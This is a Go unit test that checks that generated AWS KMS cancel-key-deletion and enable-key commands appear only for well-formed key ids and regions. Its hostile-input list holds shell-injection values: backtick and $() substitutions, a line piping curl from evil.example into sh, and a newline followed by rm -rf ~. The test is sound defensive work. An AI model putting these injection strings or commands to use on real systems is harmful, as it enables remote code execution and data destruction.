package finding

import (
	"strings"
	"testing"
)

// TestCancelCommandOnlyForKMSIds: readers paste these commands into a shell,
// so a key id or region outside AWS's syntax gets no command at all.
func TestCancelCommandOnlyForKMSIds(t *testing.T) {
	good := []Finding{
		{KeyID: "1234abcd-12ab-34cd-56ef-1234567890ab", Region: "us-east-1"},
		{KeyID: "mrk-1234abcd12ab34cd56ef1234567890ab", Region: "us-gov-west-1"},
		{KeyID: "1234ABCD-12AB-34CD-56EF-1234567890AB", Region: "ap-southeast-5"},
	}
	for _, f := range good {
		c := f.CancelCommand()
		want := "aws kms cancel-key-deletion --key-id " + f.KeyID + " --region " + f.Region
		if c != want {
			t.Errorf("CancelCommand(%q, %q) = %q, want %q", f.KeyID, f.Region, c, want)
		}
		if e := f.EnableCommand(); e != "aws kms enable-key --key-id "+f.KeyID+" --region "+f.Region {
			t.Errorf("EnableCommand = %q", e)
		}
	}
	hostile := []Finding{
		{KeyID: "1234abcd-12ab-34cd-56ef-1234567890ab`touch /tmp/pwned`", Region: "us-east-1"},
		{KeyID: "x'; curl evil.example | sh; '", Region: "us-east-1"},
		{KeyID: "1234abcd-12ab-34cd-56ef-1234567890ab\nrm -rf ~", Region: "us-east-1"},
		{KeyID: "$(id)", Region: "us-east-1"},
		{KeyID: "1234abcd-12ab-34cd-56ef-1234567890ab", Region: "us-east-1; id"},
		{KeyID: "1234abcd-12ab-34cd-56ef-1234567890ab", Region: "us-east-1`id`"},
		{KeyID: "mrk-5e6f", Region: "us-east-1"},
		{KeyID: "", Region: "us-east-1"},
	}
	for _, f := range hostile {
		if c := f.CancelCommand(); c != "" {
			t.Errorf("CancelCommand(%q, %q) = %q, want none", f.KeyID, f.Region, c)
		}
		if c := f.EnableCommand(); c != "" {
			t.Errorf("EnableCommand(%q, %q) = %q, want none", f.KeyID, f.Region, c)
		}
		if ValidKeyID(f.KeyID) && strings.ContainsAny(f.KeyID, "`$;'\n") {
			t.Errorf("ValidKeyID(%q) = true", f.KeyID)
		}
	}
}
